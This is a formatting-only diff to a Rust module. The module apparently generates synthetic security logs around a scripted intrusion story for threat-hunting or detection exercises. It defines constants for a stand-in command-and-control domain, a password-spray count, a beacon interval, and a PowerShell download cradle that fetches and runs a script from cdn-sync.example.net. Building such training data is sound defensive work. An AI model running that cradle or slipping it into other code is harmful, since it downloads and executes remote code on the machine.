@@ -58,7 +58,8 @@ pub mod story {
     pub const C2_DOMAIN: &str = "cdn-sync.example.net";
     pub const C2_PORT: i32 = 443;
     /// The PowerShell command that the encoded command decodes to.
-    pub const DOWNLOAD_CRADLE: &str = "IEX (New-Object Net.WebClient).DownloadString('http://cdn-sync.example.net/update.ps1')";
+    pub const DOWNLOAD_CRADLE: &str =
+        "IEX (New-Object Net.WebClient).DownloadString('http://cdn-sync.example.net/update.ps1')";
     /// The number of accounts sprayed, including the compromised one.
     pub const SPRAYED_ACCOUNTS: usize = 45;
     /// The beacon interval in seconds, before jitter.
@@ -101,7 +102,10 @@ pub type Dataset = BTreeMap<String, DataFrame>;
 pub fn dataset_for(now_nanos: i64) -> Arc<Dataset> {
     static CACHE: OnceLock<Mutex<Option<(i64, Arc<Dataset>)>>> = OnceLock::new();
     let anchor = anchor_for(now_nanos);
-    let mut cache = CACHE.get_or_init(|| Mutex::new(None)).lock().unwrap_or_else(|p| p.into_inner());
+    let mut cache = CACHE
+        .get_or_init(|| Mutex::new(None))
+        .lock()
+        .unwrap_or_else(|p| p.into_inner());
     if let Some((cached_anchor, dataset)) = cache.as_ref() {
         if *cached_anchor == anchor {
             return Arc::clone(dataset);
@@ -127,8 +131,14 @@ pub fn generate(anchor: i64) -> Dataset {
         "SecurityEvent".to_owned(),
         security_event::generate(&org, &mut rng, &launches, &timeline, start, anchor),
     );
-    tables.insert("SigninLogs".to_owned(), signin_logs::generate(&org, &mut rng, &timeline, start, anchor));
-    tables.insert("DeviceProcessEvents".to_owned(), device_events::processes(&org, &mut rng, &launches));
+    tables.insert(
+        "SigninLogs".to_owned(),
+        signin_logs::generate(&org, &mut rng, &timeline, start, anchor),
+    );
+    tables.insert(
+        "DeviceProcessEvents".to_owned(),
+        device_events::processes(&org, &mut rng, &launches),
+    );
     tables.insert(
         "DeviceNetworkEvents".to_owned(),
         device_events::network(&org, &mut rng, &timeline, start, anchor),
@@ -146,7 +156,11 @@ fn base64(bytes: &[u8]) -> String {
     const ALPHABET: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
     let mut out = String::with_capacity(bytes.len().div_ceil(3) * 4);
     for chunk in bytes.chunks(3) {
-        let b = [chunk[0], *chunk.get(1).unwrap_or(&0), *chunk.get(2).unwrap_or(&0)];
+        let b = [
+            chunk[0],
+            *chunk.get(1).unwrap_or(&0),
+            *chunk.get(2).unwrap_or(&0),
+        ];
         let n = (u32::from(b[0]) << 16) | (u32::from(b[1]) << 8) | u32::from(b[2]);
         for (i, shift) in [18, 12, 6, 0].into_iter().enumerate() {
             if i <= chunk.len() {
